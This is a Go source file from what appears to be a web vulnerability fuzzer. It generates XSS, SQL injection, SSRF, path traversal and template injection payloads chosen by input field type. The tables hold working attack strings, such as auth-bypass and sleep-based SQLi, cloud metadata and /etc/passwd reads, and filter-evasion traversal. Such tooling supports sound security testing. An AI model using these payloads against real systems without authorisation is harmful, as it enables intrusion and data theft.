package payload

import (
	"strings"

	"github.com/fuzzhound/fuzzhound/pkg/surface"
)

// Built-in class generators. Base tables are fixed slices so output order
// is stable across runs.

func init() {
	Register(&xssGenerator{})
	Register(&sqliGenerator{})
	Register(&ssrfGenerator{})
	Register(&traversalGenerator{})
	Register(&sstiGenerator{})
}

// looksLikeURLSample reports whether a sample value is URL-shaped.
func looksLikeURLSample(sample string) bool {
	s := strings.ToLower(strings.TrimSpace(sample))
	return strings.HasPrefix(s, "http://") || strings.HasPrefix(s, "https://") ||
		strings.HasPrefix(s, "//")
}

// looksLikeEmailSample reports whether a sample value is email-shaped.
func looksLikeEmailSample(sample string) bool {
	s := strings.TrimSpace(sample)
	at := strings.IndexByte(s, '@')
	return at > 0 && at < len(s)-1 && !strings.ContainsAny(s, " \t")
}

// ==================== XSS ====================

// xssGenerator covers reflected and DOM cross-site scripting.
type xssGenerator struct{}

func (g *xssGenerator) Class() Class { return ClassXSS }

// Applicable: markup injection makes no sense for file uploads.
func (g *xssGenerator) Applicable(ctx FieldContext) bool {
	return ctx.Type != surface.TypeFile
}

var xssBasicPayloads = []struct {
	value string
	name  string
}{
	{`<script>alert(1)</script>`, "Script Tag"},
	{`<img src=x onerror=alert(1)>`, "Image Error Handler"},
	{`<svg onload=alert(1)>`, "SVG Load Handler"},
}

var xssBreakoutPayloads = []struct {
	value string
	name  string
}{
	{`"><script>alert(1)</script>`, "Attribute Breakout"},
	{`'><script>alert(1)</script>`, "Single Quote Breakout"},
	{`" onmouseover="alert(1)`, "Event Handler Injection"},
	{`'-alert(1)-'`, "JS String Breakout"},
}

var xssMarkupPayloads = []struct {
	value string
	name  string
}{
	{`<details open ontoggle=alert(1)>`, "Details Toggle"},
	{`<body onload=alert(1)>`, "Body Load Handler"},
	{`<iframe srcdoc="<script>alert(1)</script>">`, "Iframe Srcdoc"},
}

var xssFrameworkPayloads = []struct {
	value string
	name  string
}{
	{`{{constructor.constructor('alert(1)')()}}`, "Angular Sandbox Escape"},
	{`{{7*7}}[[7*7]]`, "Template Marker"},
}

var xssURLPayloads = []struct {
	value string
	name  string
}{
	{`javascript:alert(1)`, "JavaScript Scheme"},
	{`javascript://%0aalert(1)`, "JavaScript Scheme Newline"},
}

// Base selects payload groups by the field's shape, mirroring how a person
// would choose what to type where: constrained inputs get only the small
// universal set, free-text gets the full spread.
func (g *xssGenerator) Base(ctx FieldContext) []Payload {
	var out []Payload
	add := func(table []struct{ value, name string }) {
		for _, p := range table {
			out = append(out, Payload{Value: p.value, Name: p.name})
		}
	}

	switch {
	case looksLikeURLSample(ctx.Sample):
		add(xssURLPayloads)
		add(xssBasicPayloads)
	case looksLikeEmailSample(ctx.Sample):
		add(xssBreakoutPayloads)
		add(xssBasicPayloads)
	case ctx.Type == surface.TypeHidden,
		ctx.Type == surface.TypeNumeric,
		ctx.Type == surface.TypeBoolean:
		add(xssBasicPayloads)
	default:
		add(xssBasicPayloads)
		add(xssBreakoutPayloads)
		add(xssMarkupPayloads)
		add(xssFrameworkPayloads)
	}
	return out
}

// ==================== SQL INJECTION ====================

// sqliGenerator covers error-based, boolean-based, and time-based SQLi.
type sqliGenerator struct{}

func (g *sqliGenerator) Class() Class { return ClassSQLI }

// Applicable: a field whose sample is boolean-only cannot reach an
// interpreter with attacker-shaped SQL; file uploads carry content, not
// query fragments.
func (g *sqliGenerator) Applicable(ctx FieldContext) bool {
	return ctx.Type != surface.TypeBoolean && ctx.Type != surface.TypeFile
}

var sqliStringPayloads = []struct {
	value string
	name  string
}{
	{`'`, "Single Quote"},
	{`''`, "Double Single Quote"},
	{`' OR '1'='1`, "Classic OR"},
	{`' OR '1'='1'--`, "OR Comment"},
	{`admin'--`, "Auth Bypass Comment"},
	{`') OR ('1'='1`, "Parenthesis OR"},
	{`" OR "1"="1`, "Double Quote OR"},
}

var sqliNumericPayloads = []struct {
	value string
	name  string
}{
	{`1 OR 1=1`, "Numeric OR"},
	{`1 AND 1=2`, "Numeric AND False"},
	{`1' ORDER BY 3--+`, "Order By Probe"},
	{`1 UNION SELECT NULL--`, "Union Null"},
}

var sqliTimePayloads = []struct {
	value string
	name  string
}{
	{`' AND SLEEP(5)--`, "MySQL Sleep"},
	{`'; WAITFOR DELAY '0:0:5'--`, "MSSQL WaitFor"},
	{`' AND pg_sleep(5)--`, "PostgreSQL Sleep"},
	{`' AND 5=(SELECT 5 FROM PG_SLEEP(5))--`, "PostgreSQL Subselect Sleep"},
}

var sqliBooleanPayloads = []struct {
	value string
	name  string
}{
	{`' AND '1'='1`, "True Condition"},
	{`' AND '1'='2`, "False Condition"},
}

func (g *sqliGenerator) Base(ctx FieldContext) []Payload {
	var out []Payload
	add := func(table []struct{ value, name string }) {
		for _, p := range table {
			out = append(out, Payload{Value: p.value, Name: p.name})
		}
	}

	if ctx.Type == surface.TypeNumeric {
		add(sqliNumericPayloads)
		add(sqliTimePayloads)
		return out
	}

	add(sqliStringPayloads)
	add(sqliBooleanPayloads)
	add(sqliTimePayloads)
	return out
}

// ==================== SSRF ====================

// ssrfGenerator covers server-side request forgery. Only fields already
// carrying a URL-shaped value are candidates; anything else and the server
// has no reason to fetch what we send.
type ssrfGenerator struct{}

func (g *ssrfGenerator) Class() Class { return ClassSSRF }

func (g *ssrfGenerator) Applicable(ctx FieldContext) bool {
	return looksLikeURLSample(ctx.Sample)
}

var ssrfPayloads = []struct {
	value string
	name  string
}{
	{`http://localhost/`, "Localhost"},
	{`http://127.0.0.1/`, "Loopback IPv4"},
	{`http://[::1]/`, "Loopback IPv6"},
	{`http://169.254.169.254/latest/meta-data/`, "AWS Metadata"},
	{`http://metadata.google.internal/computeMetadata/v1/`, "GCP Metadata"},
	{`http://192.168.0.1/`, "Internal Router"},
	{`http://10.0.0.1/`, "Internal Network"},
	{`http://0177.0.0.1/`, "Octal Loopback"},
	{`file:///etc/passwd`, "File Scheme"},
	{`dict://127.0.0.1:11211/info`, "Dict Scheme"},
}

func (g *ssrfGenerator) Base(ctx FieldContext) []Payload {
	out := make([]Payload, 0, len(ssrfPayloads))
	for _, p := range ssrfPayloads {
		out = append(out, Payload{Value: p.value, Name: p.name})
	}
	return out
}

// ==================== PATH TRAVERSAL ====================

// traversalGenerator covers directory traversal and local file reads.
type traversalGenerator struct{}

func (g *traversalGenerator) Class() Class { return ClassTraversal }

// Applicable: traversal needs a value the server resolves as a path. File
// fields qualify (filename handling), as do text-like fields.
func (g *traversalGenerator) Applicable(ctx FieldContext) bool {
	return ctx.Type != surface.TypeBoolean && ctx.Type != surface.TypeNumeric
}

var traversalPayloads = []struct {
	value    string
	name     string
	encoding string
}{
	{`../../../etc/passwd`, "Unix Passwd", ""},
	{`../../../../../../etc/passwd`, "Unix Passwd Deep", ""},
	{`..\..\..\windows\win.ini`, "Windows INI", ""},
	{`..%2f..%2f..%2fetc%2fpasswd`, "Unix Passwd", "url"},
	{`..%252f..%252f..%252fetc%252fpasswd`, "Unix Passwd", "double-url"},
	{`....//....//....//etc/passwd`, "Filter Evasion Doubling", ""},
}

func (g *traversalGenerator) Base(ctx FieldContext) []Payload {
	out := make([]Payload, 0, len(traversalPayloads))
	for _, p := range traversalPayloads {
		out = append(out, Payload{Value: p.value, Name: p.name, Encoding: p.encoding})
	}
	return out
}

// ==================== TEMPLATE INJECTION ====================

// sstiGenerator covers server-side template injection.
type sstiGenerator struct{}

func (g *sstiGenerator) Class() Class { return ClassSSTI }

func (g *sstiGenerator) Applicable(ctx FieldContext) bool {
	return ctx.Type == surface.TypeText || ctx.Type == surface.TypeUnknown ||
		ctx.Type == surface.TypeHidden
}

var sstiPayloads = []struct {
	value string
	name  string
}{
	{`{{7*7}}`, "Jinja2 Arithmetic"},
	{`${7*7}`, "EL Arithmetic"},
	{`<%= 7*7 %>`, "ERB Arithmetic"},
	{`{{7*'7'}}`, "Jinja2 String Multiply"},
	{`#{7*7}`, "Ruby Interpolation"},
}

func (g *sstiGenerator) Base(ctx FieldContext) []Payload {
	out := make([]Payload, 0, len(sstiPayloads))
	for _, p := range sstiPayloads {
		out = append(out, Payload{Value: p.value, Name: p.name})
	}
	return out
}
